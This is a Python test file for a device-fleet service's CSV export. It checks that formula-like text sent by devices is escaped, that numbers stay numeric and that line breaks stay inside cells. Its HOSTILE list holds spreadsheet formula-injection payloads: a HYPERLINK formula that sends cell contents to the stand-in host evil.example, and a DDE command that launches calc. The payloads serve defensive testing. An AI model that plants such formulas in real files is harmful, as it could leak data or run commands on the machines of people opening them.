"""CSV exports are safe to open in a spreadsheet: text a device sent that would run as a
formula is escaped, numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from edgetally.fleet.http.app import create_app
from edgetally.fleet.http.context import FleetContext
from edgetally.fleet.http.export import to_csv
from edgetally.fleet.store.connect import open_store
from edgetally.fleet.store.records import IngestBatch, Seen, Table
from edgetally.models.topics import DeviceId, SiteId
from edgetally.models.wire import DeviceStatus
from fastapi.testclient import TestClient

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd",
    "\r=1",
]


def _rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode(), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_quoted_numbers_are_not(text: str) -> None:
    table = Table(("name", "n", "x", "note"), [(text, -3, -0.5, "fine = fine")])
    header, row = _rows(to_csv(table))
    assert header == ["name", "n", "x", "note"]
    assert row == ["'" + text.replace("\r", "\n"), "-3", "-0.5", "fine = fine"]


def test_a_line_break_stays_inside_its_cell() -> None:
    table = Table(("a", "b"), [("one\rtwo", "x\r\ny"), ("ok", 1)])
    assert _rows(to_csv(table)) == [["a", "b"], ["one\ntwo", "x\ny"], ["ok", "1"]]


def test_a_devices_last_error_reaches_the_csv_escaped(tmp_path: Path) -> None:
    store = open_store(str(tmp_path / "fleet.duckdb"))
    try:
        status = DeviceStatus(
            site=SiteId("shop"),
            device=DeviceId("cam"),
            at=datetime.now(UTC),
            state="online",
            errors=1,
            last_error=HOSTILE[0],
        )
        store.write(IngestBatch(statuses=(status,), seen=(Seen("shop", "cam", status.at),)))
        with TestClient(create_app(FleetContext(store=store))) as client:
            r = client.get("/api/v1/devices", params={"format": "csv"})
        assert r.status_code == 200
        header, row = _rows(r.content)
        got = dict(zip(header, row, strict=True))
        assert got["last_error"] == "'" + HOSTILE[0]
        assert got["errors"] == "1" and got["device"] == "cam"
    finally:
        store.close()
